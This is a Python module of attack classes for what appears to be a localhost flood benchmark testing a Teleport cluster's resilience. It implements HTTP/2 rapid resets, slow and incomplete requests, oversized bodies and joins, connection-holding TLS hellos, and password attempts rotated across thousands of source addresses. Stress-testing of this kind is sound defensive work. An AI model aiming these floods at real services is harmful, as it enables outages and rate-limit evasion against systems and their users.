"""The attacks of bench/floods.py, which calls each again and again, in several processes, until the flood ends.

The constructor of an attack prepares the bytes to send; a call makes one round of the attack. An attack waits for the
cluster a few seconds at most, and the cluster may answer or end its connections.
"""

import base64
import itertools
import json
import random
import socket
import struct
import time

import hpack

from grpc_client import SERVER_NAME, GrpcClient, client_context, client_hello
from hostile import HostileAgent
from hostile_http2 import LARGEST_MESSAGE, PING, HostileHttp2
from kube_endpoint import KubeEndpoint
from protobuf import field
from web import WebClient

JOIN = "/proto.JoinService/RegisterUsingToken"
PROXY_SSH = "/teleport.transport.v1.TransportService/ProxySSH"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
HEADERS, RST_STREAM = 1, 3
END_HEADERS = 4
CANCEL = struct.pack(">I", 8)
SOURCES = 5000


def source(number):
    """Returns one of five thousand addresses of 127/8."""
    number %= SOURCES
    return f"127.{100 + number // 250}.7.{number % 250 + 1}"


def connect(port, address, timeout=5):
    return socket.create_connection(("127.0.0.1", port), timeout=timeout, source_address=(address, 0))


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def grpc_headers(path):
    return [(":method", "POST"), (":scheme", "https"), (":path", path), (":authority", SERVER_NAME),
            ("te", "trailers"), ("content-type", "application/grpc")]


class Attack:
    """`target` has the addresses of the cluster, and the certificates and names that the attacker knows."""

    def __init__(self, target, number):
        self.target = target
        self.number = number
        self.sources = (source(each) for each in itertools.count(random.randrange(SOURCES)))
        self.held = []

    def hold(self, connection, most):
        """Keeps a connection open, and closes the oldest when there are more than the most."""
        self.held.append(connection)
        if len(self.held) > most:
            self.held.pop(0).close()


class Resets(Attack):
    """Opens and resets streams as fast as the connection carries them."""

    def __init__(self, target, number):
        super().__init__(target, number)
        block = hpack.Encoder().encode(grpc_headers(PING), huffman=False)
        self.lot = [frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
                    for stream in range(1, 8000, 2)]

    def __call__(self):
        raw = connect(self.target.auth_port, next(self.sources))
        with client_context(protocols=["h2"]).wrap_socket(raw, server_hostname=SERVER_NAME) as stream:
            stream.sendall(PREFACE)
            for first in range(0, len(self.lot), 100):
                stream.sendall(b"".join(self.lot[first:first + 100]))


class UnfinishedMessages(Attack):
    """Sends messages without their last byte, in every stream that a connection may have. Every second connection has
    a user's certificate."""

    def __call__(self):
        attacker = HostileHttp2(self.target, self.target.identity if len(self.held) % 2 else None, next(self.sources))
        self.hold(attacker, 200)
        attacker.send_unfinished(2)


class BigBodies(Attack):
    """Sends bodies with a large Content-Length, and as many bytes: in web requests without a certificate, and in
    Kubernetes requests of a user with access."""

    def __call__(self):
        if self.number % 2:
            with KubeEndpoint(self.target, self.target.identity, timeout=5) as endpoint:
                endpoint.send("POST", "/api/v1/namespaces/default/pods", "Content-Type: application/json",
                          f"Content-Length: {1 << 30}")
                self.pour(endpoint.stream)
            return
        raw = connect(self.target.proxy_port, next(self.sources))
        with client_context(protocols=["http/1.1"]).wrap_socket(raw, server_hostname="localhost") as stream:
            path = random.choice(["/webapi/mfa/login/begin", "/v1/webapi/host/credentials", "/webapi/nothing"])
            stream.sendall(f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                           f"Content-Length: {1 << 30}\r\n\r\n".encode())
            self.pour(stream)

    @staticmethod
    def pour(stream):
        part = b'{"user": "' + b"x" * (1 << 16)
        for _ in range(1 << 10):
            stream.sendall(part)


class HalfHandshakes(Attack):
    """Sends a TLS client's hello, and then nothing."""

    def __init__(self, target, number):
        super().__init__(target, number)
        self.hello = client_hello()
        self.ports = itertools.cycle((target.auth_port, target.proxy_port))

    def __call__(self):
        raw = connect(next(self.ports), next(self.sources))
        self.hold(raw, 4000)
        raw.sendall(self.hello)


class WrongLogins(Attack):
    """Sends wrong passwords, each from another address, for users that exist and for users that do not."""

    def __call__(self):
        name = random.choice([f"nobody{random.randrange(10**6)}", *self.target.names])
        WebClient(self.target.proxy_port, self.target.ca_file, source=next(self.sources)).login_begin(name, "wrong")


class LargeJoins(Attack):
    """Sends join requests without a valid token, with names of megabytes."""

    def __init__(self, target, number):
        super().__init__(target, number)
        name = "x" * (LARGEST_MESSAGE // 4)
        self.request = field(1, name) + field(2, name) + field(3, name) + field(4, "nothing")
        self.body = json.dumps({"hostID": name, "node_name": name, "role": name, "token": "nothing",
                                "public_tls_key": base64.b64encode(b"x").decode()})

    def __call__(self):
        if self.number % 2:
            WebClient(self.target.proxy_port, self.target.ca_file, source=next(self.sources)).request(
                "POST", "/v1/webapi/host/credentials", self.body)
            return
        raw = connect(self.target.auth_port, next(self.sources))
        with GrpcClient(self.target.auth_port, raw=raw) as client:
            client.send_large(JOIN, self.request)


class HungAgents(Attack):
    """Announces nodes that never answer a dial, and dials them as a user as often as the cluster permits."""

    def __init__(self, target, number):
        super().__init__(target, number)
        identity = target.hosts[number % len(target.hosts)]
        name = f"hung{number}"
        self.agent = HostileAgent(target, identity, name)
        self.agent.announce(name, {"env": "dev"})
        self.dialed = field(1, field(1, f"{name}:0"))

    def __call__(self):
        client = GrpcClient(self.target.auth_port, self.target.identity)
        self.hold(client._socket, 20)  # pylint: disable=protected-access
        for _ in range(100):
            client.send_message(client.open(PROXY_SSH), self.dialed)
        time.sleep(0.1)


class OneOfMany(Attack):
    """Makes the attacks that need no certificate from the one address that all other users share."""

    def __init__(self, target, number):
        super().__init__(target, number)
        self.all = [kind(target, number) for kind in (Resets, HalfHandshakes, WrongLogins, LargeJoins)]
        for one in self.all:
            one.sources = itertools.repeat(target.shared_source)
        self.turns = itertools.cycle(self.all)

    def __call__(self):
        next(self.turns)()


ATTACKS = {
    "HTTP/2 resets": Resets,
    "unfinished messages": UnfinishedMessages,
    "big bodies": BigBodies,
    "half handshakes": HalfHandshakes,
    "wrong logins, 5,000 addresses": WrongLogins,
    "joins of 4 MB": LargeJoins,
    "hung agents": HungAgents,
    "one of many behind an address": OneOfMany,
}
